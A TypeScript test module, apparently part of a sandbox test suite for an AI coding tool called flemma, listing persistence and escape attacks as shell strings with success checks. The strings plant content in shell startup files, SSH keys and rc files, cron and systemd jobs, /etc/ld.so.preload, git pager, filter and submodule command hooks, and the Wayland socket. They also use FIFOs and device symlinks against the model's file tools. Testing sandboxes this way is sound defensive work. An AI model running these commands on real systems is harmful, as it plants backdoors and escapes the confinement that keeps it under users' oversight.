// Attacks: leaving something behind that runs later or makes a person or another program act.

import { type Attack, changed, DENO, inGroup, listenAt, type Scene, text, there } from "./types.ts";

const HOME = { policy: () => ({ rw_paths: ["urn:flemma:cwd", "~"] }) };

/** Files below the home that a session, a shell or a program runs or obeys. */
const STARTED: Readonly<Record<string, readonly string[]>> = {
  "a session": [
    ...[".config/autostart/x.desktop", ".config/systemd/user/x.service", ".xprofile"],
    ".local/share/dbus-1/services/x.service",
  ],
  "shells and editors": [
    ".profile",
    ".zshenv",
    ".config/fish/config.fish",
    ".inputrc",
    ".config/nvim/init.lua",
    ".vimrc",
  ],
  "ssh and git": [
    ...[".ssh/rc", ".ssh/config", ".ssh/authorized_keys", ".gitconfig", ".config/git/config"],
    ".config/git/hooks/post-checkout",
  ],
  "debuggers, packages and databases": [
    ...[".gdbinit", ".lldbinit", ".npmrc", ".config/pip/pip.conf", ".cargo/config.toml", ".psqlrc"],
    ...[".gradle/init.d/x.gradle", ".docker/cli-plugins/docker-x"],
  ],
};

const started = inGroup(
  "what runs later",
  Object.entries(STARTED).map(([what, paths]) => ({
    name: `commands for ${what}, with a writable home folder`,
    shell: () =>
      paths.map((path) =>
        `mkdir -p ~/"$(dirname ${path})"; echo PWNED >> ~/${path}; ln -sf /etc/passwd ~/${path}; cp main.ts ~/${path}`
      ).join("; "),
    won: ({ root }: Scene) =>
      paths.some((path) => {
        const found = text(`${root}/home/${path}`);
        return there(`${root}/home/${path}`) && (found === null || /PWNED|main/.test(found));
      }),
    ...HOME,
  })),
);

const jobs = inGroup("what runs later", [
  {
    name: "cron and at jobs, and systemd units",
    shell: ({ project }: Scene) =>
      `echo "* * * * * touch ${project}/PWNED" | crontab - ; echo "touch ${project}/PWNED" | at now; ` +
      `systemd-run --user touch ${project}/PWNED; systemd-run touch ${project}/PWNED; ` +
      `for d in /var/spool/cron /var/spool/cron/crontabs /etc/cron.d /var/spool/at; do echo "* * * * * root true" > $d/flemma-attack; done`,
    won: () =>
      ["/var/spool/cron", "/var/spool/cron/crontabs", "/etc/cron.d", "/var/spool/at"].some((folder) =>
        there(`${folder}/flemma-attack`)
      ),
  },
  {
    name: "the dynamic loader, and the settings of all shells",
    shell: () =>
      "for f in /etc/ld.so.preload /etc/profile.d/x.sh /etc/environment /etc/bash.bashrc /usr/local/bin/ls; do echo PWNED >> $f; done",
    won: () =>
      [
        "/etc/ld.so.preload",
        "/etc/profile.d/x.sh",
        "/etc/environment",
        "/etc/bash.bashrc",
        "/usr/local/bin/ls",
      ]
        .some((path) => text(path)?.includes("PWNED") === true),
  },
]);

const repository = inGroup("what runs later", [
  {
    name: "writing to the repository's configuration through a hard link",
    shell: () =>
      "ln .git/config c && echo '[core] pager = ./evil' >> c; cp -l .git g; echo '[core] pager = ./evil' >> g/config",
    won: ({ project }) => text(`${project}/.git/config`)?.includes("evil") === true,
  },
  {
    name: "attributes and excludes of the repository inside .git",
    shell: () =>
      "mkdir -p .git/info; echo '* filter=evil' > .git/info/attributes; git config filter.evil.clean ./evil; git config core.attributesFile x",
    won: ({ project }) => text(`${project}/.git/config`)?.includes("evil") === true,
  },
  {
    name: "hidden objects of another repository of the person",
    plant: ({ root }) => {
      Deno.mkdirSync(`${root}/home/.ssh/objects/ab`, { recursive: true });
      Deno.writeTextFileSync(`${root}/home/.ssh/objects/ab/cd`, "text of home/.ssh/objects\n");
    },
    shell: () =>
      "mkdir -p .git/objects/info; echo ~/.ssh/objects > .git/objects/info/alternates; cat ~/.ssh/objects/ab/cd; git cat-file --batch-all-objects --batch-check",
    won: (_, { out }) => out.includes("text of home/"),
  },
  {
    name: "a submodule whose address is a command",
    shell: () =>
      "git -c protocol.ext.allow=always submodule add 'ext::sh -c touch% ../PWNED-outside' sub; printf '[submodule \"s\"]\\n path = s\\n url = --upload-pack=touch ../PWNED-outside\\n' > .gitmodules",
    person: () => "git submodule update --init 2>&1; git fetch --recurse-submodules 2>&1; true",
    won: ({ root }) => there(`${root}/PWNED-outside`),
  },
  {
    name: "a bisection, a rebase and a merge left unfinished",
    shell: () =>
      "mkdir -p .git/rebase-merge; echo 'exec touch ../PWNED-outside' > .git/rebase-merge/git-rebase-todo; echo 'touch ../PWNED-outside' > .git/BISECT_RUN; echo x > .git/rebase-merge/head-name",
    person: () => "git status 2>&1; git log 2>&1; true",
    won: ({ root }) => there(`${root}/PWNED-outside`),
  },
]);

/** Names that a command may not take where this program, or the person's shell, looks for something. */
const names = inGroup("what runs later", [
  {
    name: "a pipe in place of a file that the model reads",
    shell: () => "mkfifo pipe; mkfifo AGENTS.md",
    calls: () => [["read", { path: "pipe" }], ["edit", { path: "AGENTS.md", oldText: "a", newText: "b" }]],
    won: (_, { code }) => code === 0,
  },
  {
    name: "a device in place of a file that the model writes",
    shell: () => "ln -s /dev/stdout out; ln -s /proc/self/fd/1 out2; ln -s /dev/tcp/127.0.0.1/1 out3",
    calls:
      () => [["write", { path: "out", content: "PWNED" }], ["write", { path: "out2", content: "PWNED" }]],
    won: (_, { code }) => code === 0,
  },
  {
    name: "a folder of the project that leads to flemma's settings",
    shell: ({ root }) => `ln -s ${root}/home/.config/flemma settings; echo PWNED > settings/config.yaml`,
    calls: () => [["write", { path: "settings/config.yaml", content: "PWNED" }]],
    won: changed("home/.config/flemma/config.yaml"),
  },
]);

const display = inGroup("what runs later", [
  {
    name: "the person's display, through the socket of X and of Wayland",
    shell: ({ root, bus }) =>
      `${DENO} connect.js ${root}/run/wayland-0 ${bus} "$WAYLAND_DISPLAY"; env | grep -E '^(DISPLAY|WAYLAND_DISPLAY|XAUTHORITY)='; true`,
    plant: ({ root, reached }) => listenAt(`${root}/run/wayland-0`, reached),
    variables: ({ root }) => ({ WAYLAND_DISPLAY: `${root}/run/wayland-0` }),
    won: (scene, { out }) => out.includes("PWNED") || scene.reached.some((path) => path.includes("wayland")),
  },
]);

export const LATER: readonly Attack[] = [...started, ...jobs, ...repository, ...names, ...display];
